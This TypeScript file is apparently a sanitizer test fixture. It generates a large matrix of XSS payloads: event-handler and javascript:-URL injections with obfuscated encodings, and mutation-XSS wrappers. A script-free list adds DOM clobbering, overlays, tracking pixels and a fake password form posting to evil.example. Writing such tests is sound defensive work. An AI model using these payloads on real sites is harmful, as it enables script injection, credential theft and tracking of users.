/** What every script below calls. */
const RUN = 'alert(1)';

const HANDLED_TAGS = [
  'img src=x',
  'svg',
  'body',
  'video src=x',
  'audio src=x',
  'input autofocus',
  'details open',
  'iframe',
  'object data=x',
  'a href=#',
  'p',
  'table',
  'button',
  'select',
  'textarea',
  'style',
  'link rel=stylesheet href=x',
  'x contenteditable',
  'math',
  'marquee',
];
const EVENTS = [
  'load',
  'error',
  'click',
  'focus',
  'blur',
  'toggle',
  'pointerover',
  'mouseover',
  'mousedown',
  'keydown',
  'input',
  'animationstart',
  'transitionend',
  'copy',
  'wheel',
  'beforetoggle',
  'scroll',
  'touchstart',
];
const HANDLERS: readonly ((event: string) => string)[] = [
  (event) => ` on${event}=${RUN}`,
  (event) => ` ON${event.toUpperCase()}="${RUN}"`,
  (event) => `/on${event}\n=\n'&#97;lert(1)'`,
];

const ADDRESSED = [
  'a href',
  'area href',
  'iframe src',
  'form action',
  'button form=f formaction',
  'object data',
  'embed src',
  'svg><a xlink:href',
  'math href',
  'base href',
  'img src',
  'img srcset',
  'video poster',
  'link rel=import href',
  'meta http-equiv=refresh content',
];
const ADDRESSES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  `java\nscript:${RUN}`,
  ` \u0001javascript:${RUN}`,
  `&#106;avascript:${RUN}`,
  `&#x6A;avascript&colon;${RUN}`,
  `javascript&#58;${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  `vbscript:${RUN}`,
  '//evil.example/x',
  'https://evil.example/x',
  'https:\\\\evil.example',
  'https://user:pass@evil.example/',
  `0;url=javascript:${RUN}`,
  `blob:https://evil.example/1`,
  'file:///etc/passwd',
];

const FRAMES: readonly ((inner: string) => string)[] = [
  (inner) => inner,
  (inner) => `<svg><foreignObject>${inner}</foreignObject></svg>`,
  (inner) => `<math><mtext><table><mglyph><style><!--</style>${inner}`,
  (inner) => `<noscript><p title="</noscript>${inner}">`,
  (inner) => `<template>${inner}</template>`,
  (inner) => `<table>${inner}<tr><td>`,
  (inner) => `<form id=f>${inner}</form>`,
  (inner) => `<select><option>${inner}</option></select>`,
  (inner) => `<iframe srcdoc='${inner.replaceAll("'", '&#39;')}'></iframe>`,
];

const IN_FRAMES = [
  `<script>${RUN}</script>`,
  `<img src=x onerror=${RUN}>`,
  `<svg onload=${RUN}>`,
  `<a href=javascript:${RUN}>x</a>`,
];

/** What covers, clobbers or asks strangers without running anything. */
const WITHOUT_SCRIPT = [
  '<div style="position:fixed;inset:0;z-index:2147483647;background:red">领取</div>',
  '<p style="position:absolute;top:-9999px;width:99999px;height:99999px">x</p>',
  '<style>*{position:fixed!important;inset:0}</style>',
  '<p class="overlay" id="root">x</p>',
  '<form action="https://evil.example"><input name=password type=password><button>登录</button></form>',
  '<a id=location name=location href="https://evil.example">x</a><form id=document name=body><input name=parentNode></form>',
  '<img name=getElementById><img name=querySelector><form name=cookie></form><embed name=fetch>',
  '<a id=portal></a><a id=portal name=policy href=x></a>',
  '<img src="https://evil.example/pixel.gif" srcset="https://evil.example/2.gif 2x">',
  '<table background="https://evil.example/b.gif"><td background="//evil.example/c.gif">x</td></table>',
  '<video poster="https://evil.example/p.gif" autoplay><source src="https://evil.example/v.mp4"></video>',
  '<link rel=stylesheet href="https://evil.example/a.css"><link rel=prefetch href="https://evil.example/b">',
  '<svg><image href="https://evil.example/i.png"/><use href="https://evil.example/s.svg#a"/></svg>',
  '<div popover id=p>x</div><button popovertarget=p>打开</button><dialog open>假</dialog>',
  '<b is="x-portal">x</b><p is=popup-info>x</p>',
  '<p dir=rtl style="transform:scale(99)">x</p>',
];

/** Markup that must do nothing: tags by events, attributes by addresses, scripts in every frame. The same in each run. */
export const XSS_MATRIX: readonly string[] = [
  ...HANDLED_TAGS.flatMap((tag) =>
    EVENTS.flatMap((event) => HANDLERS.map((write) => `<${tag}${write(event)}>x</${tag.split(' ')[0] ?? ''}>`)),
  ),
  ...ADDRESSED.flatMap((attribute) => ADDRESSES.map((address) => `<${attribute}="${address}">x`)),
  ...FRAMES.flatMap((frame) => IN_FRAMES.map(frame)),
  ...WITHOUT_SCRIPT,
];
